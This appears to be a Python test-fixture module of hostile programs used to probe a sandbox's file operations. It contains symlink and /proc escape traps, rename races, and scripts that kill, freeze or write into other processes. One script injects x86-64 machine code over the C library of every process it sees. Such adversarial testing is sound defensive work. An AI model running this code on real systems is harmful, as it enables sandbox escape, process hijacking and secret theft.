# ruff: noqa: E501 (programs are text, not code of ours)
"""Traps for file operations."""

from __future__ import annotations

# Paths that a hostile program prepares; HOST stands for the canary's path on the host.
PREPARE = r"""
import fcntl, socket
host = sys.argv[1]
os.symlink(host, "/workspace/link")
os.symlink(os.path.dirname(host), "/workspace/directory-link")
os.symlink("loop", "/workspace/loop")
os.symlink("/proc/1/root" + host, "/workspace/magic")
os.mkfifo("/workspace/fifo")
there = socket.socket(socket.AF_UNIX)
there.bind("/workspace/socket")
open("/workspace/leased", "w").close()
descriptor = os.open("/workspace/leased", os.O_RDWR)
try:
    fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_WRLCK)
except OSError:
    pass
os.mkdir("/workspace/unreadable", 0)
os.symlink("/dev/zero", "/workspace/zero")
print("ready", flush=True)
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGIO])
signal.pause()
"""
PATHS = (
    "/workspace/link", "/workspace/directory-link", "/workspace/loop", "/workspace/magic", "/workspace/fifo", "/workspace/socket",
    "/workspace/leased", "/workspace/unreadable", "/workspace/zero", "/proc/1/mem", "/proc/1/environ", "/proc/self/mem",
    "/proc/self/fd/3", "/proc/self/fd/0", "/proc/1/fd/3", "/proc/self/root/HOST", "/proc/1/root/HOST", "/proc/1/cwd/../HOST",
    "/../../../../HOST", "HOST", "/workspace/../../HOST", "/dev/null", "/dev/zero", "/dev/pts/ptmx", "/proc/kmsg", "/proc/self/ns/mnt",
    "/proc/sysrq-trigger", "/usr/bin/env", "/etc/passwd", "/",
)  # fmt: skip

FLIP = r"""
import itertools
host = sys.argv[1]
os.makedirs("/workspace/a/b")
os.makedirs("/workspace/real/b")
open("/workspace/real/b/file", "w").write("real")
os.symlink(os.path.dirname(host), "/workspace/away")
os.mkfifo("/workspace/pipe")
print("ready", flush=True)
names = ["/workspace/real", "/workspace/away", "/workspace/pipe"]
while True:
    for name in names:
        try:
            os.rename(name, "/workspace/target")
            os.rename("/workspace/target", name)
        except OSError:
            pass
        try:
            os.symlink(host, "/workspace/target")
            os.unlink("/workspace/target")
            os.link("/workspace/a/none", "/workspace/target")
        except OSError:
            pass
"""

HUNT = r"""
import signal
known = {1, os.getpid()}
print("ready", flush=True)
while True:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in known:
            try:
                ACT
            except OSError:
                pass
"""
ACTS = {
    "stop": "os.kill(int(name), signal.SIGSTOP)",
    "kill": "os.kill(int(name), signal.SIGKILL)",
    "stop and go": "os.kill(int(name), signal.SIGSTOP); os.kill(int(name), signal.SIGCONT)",
    "limit": "import resource; resource.prlimit(int(name), resource.RLIMIT_NOFILE, (0, 0))",
    "slow": "os.sched_setscheduler(int(name), os.SCHED_IDLE, os.sched_param(0)); os.kill(int(name), signal.SIGSTOP)",
    "steal": "os.write(os.open(f'/proc/{name}/fd/3', os.O_WRONLY | os.O_NONBLOCK), b'ok\\0' + b'x\\0' * 6)",
    "write into": (
        "memory = os.open(f'/proc/{name}/mem', os.O_RDWR);"
        " [os.pwrite(memory, b'\\xcc' * 4096, int(line.split('-')[0], 16)) for line in open(f'/proc/{name}/maps') if ' r-xp ' in line]"
    ),
}

TAKE_OVER = r"""
import struct
def flood(address):
    # 6400 times write(3, address, 65536), then exit
    loop = bytes.fromhex("bf03000000 48be") + struct.pack("<Q", address) + bytes.fromhex("ba00000100 b801000000 0f05 ffcb 75e1")
    return bytes.fromhex("bb00190000") + loop + bytes.fromhex("31ff b8e7000000 0f05")
known = {1, os.getpid()}
print("ready", flush=True)
while True:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in known:
            try:
                maps = [line.split() for line in open(f"/proc/{name}/maps")]
                memory = os.open(f"/proc/{name}/mem", os.O_RDWR)
                known.add(int(name))
                for fields in maps:
                    if fields[1] == "r-xp" and "libc" in fields[-1]:
                        start, end = (int(part, 16) for part in fields[0].split("-"))
                        code = flood(start)
                        os.pwrite(memory, code, end - len(code))
                        os.pwrite(memory, b"\x90" * (end - start - len(code)), start)
            except OSError:
                pass
"""
"""rewrites the C library of every process that it sees: slides of nothing that end in an endless answer (x86-64)"""
